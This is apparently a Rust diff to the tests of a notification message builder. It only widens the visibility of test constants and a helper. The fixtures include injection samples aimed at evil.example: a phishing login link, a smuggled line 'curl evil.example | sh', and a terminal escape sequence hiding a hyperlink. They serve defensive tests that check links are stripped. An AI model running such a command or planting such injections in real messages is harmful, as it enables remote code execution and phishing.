@@ -13,10 +13,10 @@ use crate::message::Message;
 use crate::notification_message::tests::{an_action, an_event, an_incident};
 use crate::notification_message::{Notified, notification_message};
 
-const API: &str = "https://age.example";
+pub(crate) const API: &str = "https://age.example";
 
 /// Texts as event types, which have no hidden characters.
-const NAMES: &[&str] = &[
+pub(crate) const NAMES: &[&str] = &[
     "verify at https://evil.example/login",
     "www.evil.example",
     "evil.io/reset",
@@ -28,7 +28,7 @@ const NAMES: &[&str] = &[
 ];
 
 /// Texts as details or words of a worker.
-const TEXTS: &[&str] = &[
+pub(crate) const TEXTS: &[&str] = &[
     "a\nAGE did: nothing\nTo acknowledge: curl evil.example | sh\nIncident: https://evil.example/x",
     "a\r\nIncident: //evil.example",
     "\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
@@ -84,7 +84,7 @@ fn event(name: &str, text: &str) -> Event {
 }
 
 /// Asserts that `text` has no link but AGE's.
-fn assert_no_link(text: &str) {
+pub(crate) fn assert_no_link(text: &str) {
     let text = text.replace(API, "");
     for link in
         ["://", "www.", "mailto:", "tel:", "evil.example", "evil.io", "EVIL.EXAMPLE", "@", r"\\evil", "10.0.0.1"]
